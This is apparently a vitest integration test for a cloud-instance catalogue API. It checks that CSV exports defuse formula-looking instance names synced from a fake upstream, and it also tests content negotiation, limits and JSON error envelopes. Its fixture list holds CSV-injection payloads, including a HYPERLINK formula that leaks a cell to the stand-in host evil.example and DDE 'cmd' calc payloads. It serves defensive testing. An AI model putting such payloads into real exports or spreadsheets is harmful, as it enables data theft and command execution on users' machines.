// CSV export (D47) with hostile instance names that reach the catalogue the way real data does:
// a sync from a (fake) upstream over HTTP. Every formula-looking name comes out defused, the
// document reads back as strict RFC 4180, and errors stay JSON envelopes.
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INSTANCE_CSV_COLUMNS } from '../../src/catalog/instance-csv.js';
import { startFakeUpstream, type FakeUpstream } from '../support/fake-upstream.js';
import { parseCsv } from '../support/parse-csv.js';
import { FIXTURE_SNAPSHOTS, auth, createTestApp, type TestApp } from '../support/test-app.js';

/** Labels an attacker who controls an upstream (or a typo) could give an instance type. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Linode 2GB")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\uFF1D1+1 full-width equals',
  'Linode "4GB", quoted',
];

interface LinodeTypes {
  data: { id: string; label: string }[];
  page: number;
  pages: number;
  results: number;
}

describe('GET /instances as CSV with hostile names from a real sync', () => {
  let fake: FakeUpstream;
  let t: TestApp;
  let client = 0;
  const get = (url: string, headers: Record<string, string> = {}) =>
    t.app.inject({
      method: 'GET',
      url,
      headers: { ...auth, ...headers },
      remoteAddress: `10.12.0.${++client}`,
    });
  const hostileIds: string[] = [];

  beforeAll(async () => {
    fake = await startFakeUpstream();
    const types = JSON.parse(
      readFileSync(`${FIXTURE_SNAPSHOTS}/provider_a/linode/types.json`, 'utf8'),
    ) as LinodeTypes;
    HOSTILE.forEach((label, i) => {
      types.data[i]!.label = label;
      hostileIds.push(types.data[i]!.id);
    });
    fake.setJson('/provider_a/linode/types', types);
    t = await createTestApp({ PROVIDER_A_URL: `${fake.url}/provider_a` });
    const sync = await t.app.inject({
      method: 'POST',
      url: '/sync',
      headers: auth,
      payload: { providers: ['provider_a'], force: true },
    });
    expect(sync.statusCode).toBe(200);
    expect(fake.requests.some((r) => r.path.startsWith('/provider_a/linode/types'))).toBe(true);
  });
  afterAll(async () => {
    await t?.close();
    await fake?.close();
  });

  it('prefixes every formula-looking name with a quote and reads back as RFC 4180', async () => {
    const response = await get('/instances?format=csv&provider=provider_a&limit=10000');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers['content-disposition']).toBe('attachment; filename="instances.csv"');
    const rows = parseCsv(response.body);
    expect(rows[0]).toEqual([...INSTANCE_CSV_COLUMNS]);
    const name = INSTANCE_CSV_COLUMNS.indexOf('instance_name');
    const id = INSTANCE_CSV_COLUMNS.indexOf('instance_id');
    const names = new Map(rows.slice(1).map((row) => [row[id]!, row[name]!]));
    expect(names.get(hostileIds[0]!)).toBe(`'${HOSTILE[0]}`);
    expect(names.get(hostileIds[1]!)).toBe(`'${HOSTILE[1]}`);
    expect(names.get(hostileIds[2]!)).toBe(`'${HOSTILE[2]}`);
    expect(names.get(hostileIds[3]!)).toBe(`'${HOSTILE[3]}`);
    expect(names.get(hostileIds[4]!)).toBe(`'${HOSTILE[4]}`);
    expect(names.get(hostileIds[5]!)).toBe(HOSTILE[5]);
    for (const row of rows) {
      expect(row).toHaveLength(INSTANCE_CSV_COLUMNS.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    }
    // The JSON answer keeps the names as the upstream gave them: defusing is CSV's business.
    const json = await get('/instances?provider=provider_a&limit=100');
    const labels = json
      .json<{ data: { instances: { instance_name: string }[] } }>()
      .data.instances.map((r) => r.instance_name);
    expect(labels).toEqual(expect.arrayContaining(HOSTILE));
  });

  it('exports the same records, in the same order and prices, as the JSON answer', async () => {
    const query = 'provider=provider_a&sort_by=vcpu&order=desc&currency=JPY&limit=40&offset=3';
    const json = (await get(`/instances?${query}`)).json<{
      data: {
        instances: { id: number; pricing: { monthly_price: number; hourly_price: number } }[];
        pagination: { total: number };
      };
    }>().data;
    const response = await get(`/instances?${query}`, { accept: 'text/csv' });
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.headers['x-total-count']).toBe(String(json.pagination.total));
    expect(response.headers.vary).toBe('X-API-Key, Accept');
    const rows = parseCsv(response.body).slice(1);
    const col = (name: (typeof INSTANCE_CSV_COLUMNS)[number]) => INSTANCE_CSV_COLUMNS.indexOf(name);
    expect(rows.map((row) => Number(row[col('id')]))).toEqual(json.instances.map((r) => r.id));
    expect(rows.map((row) => Number(row[col('monthly_price')]))).toEqual(
      json.instances.map((r) => r.pricing.monthly_price),
    );
    expect(rows.map((row) => Number(row[col('hourly_price')]))).toEqual(
      json.instances.map((r) => r.pricing.hourly_price),
    );
    expect(new Set(rows.map((row) => row[col('currency')]))).toEqual(new Set(['JPY']));
  });

  it.each([
    ['text/csv', 'csv'],
    ['text/csv, */*', 'csv'],
    ['application/json;q=0.5, text/csv', 'csv'],
    ['application/json, text/csv', 'json'],
    ['text/csv;q=0.2, application/json', 'json'],
    ['text/csv;q=0', 'json'],
    ['*/*', 'json'],
    ['text/html', 'json'],
  ])('answers Accept: %s with %s', async (accept, expected) => {
    const response = await get('/instances?limit=1', { accept });
    expect(response.statusCode).toBe(200);
    expect(String(response.headers['content-type'])).toMatch(
      expected === 'csv' ? /^text\/csv/ : /^application\/json/,
    );
  });

  it('lets format=json win over Accept: text/csv', async () => {
    const response = await get('/instances?limit=1&format=json', { accept: 'text/csv' });
    expect(String(response.headers['content-type'])).toMatch(/^application\/json/);
  });

  it('allows a CSV limit up to 10,000 and keeps JSON at 100', async () => {
    expect((await get('/instances?format=csv&limit=10000')).statusCode).toBe(200);
    const json = await get('/instances?limit=101');
    expect(json.statusCode).toBe(400);
  });

  it.each([
    ['/instances?format=csv&limit=10001', 'limit'],
    ['/instances?format=xml', 'format'],
    ['/instances?format=csv&currency=BTC', 'currency'],
    ['/instances?format=csv&region=mars', 'region'],
  ])('answers %s with a JSON 400 envelope naming %s', async (url, parameter) => {
    const response = await get(url, { accept: 'text/csv' });
    expect(response.statusCode).toBe(400);
    expect(String(response.headers['content-type'])).toMatch(/^application\/json/);
    expect(response.headers['content-disposition']).toBeUndefined();
    const body = response.json<{ success: boolean; error: { code: string; details: object } }>();
    expect(body.success).toBe(false);
    expect(body.error).toMatchObject({ code: 'INVALID_PARAMETER', details: { parameter } });
  });

  it('answers a missing key with the JSON 401 envelope, also when CSV is asked for', async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/instances?format=csv',
      headers: { accept: 'text/csv' },
      remoteAddress: '10.12.9.9',
    });
    expect(response.statusCode).toBe(401);
    expect(String(response.headers['content-type'])).toMatch(/^application\/json/);
  });

  it('exports a past catalogue (as_of) as CSV too, never cached', async () => {
    const response = await get(
      `/instances?format=csv&provider=provider_a&as_of=${encodeURIComponent(new Date().toISOString())}&limit=1000`,
    );
    expect(response.statusCode).toBe(200);
    expect(response.headers['cache-control']).toBe('no-store');
    const rows = parseCsv(response.body);
    expect(rows.length).toBeGreaterThan(HOSTILE.length);
    const name = INSTANCE_CSV_COLUMNS.indexOf('instance_name');
    expect(rows.some((row) => row[name] === `'${HOSTILE[0]}`)).toBe(true);
  });
});
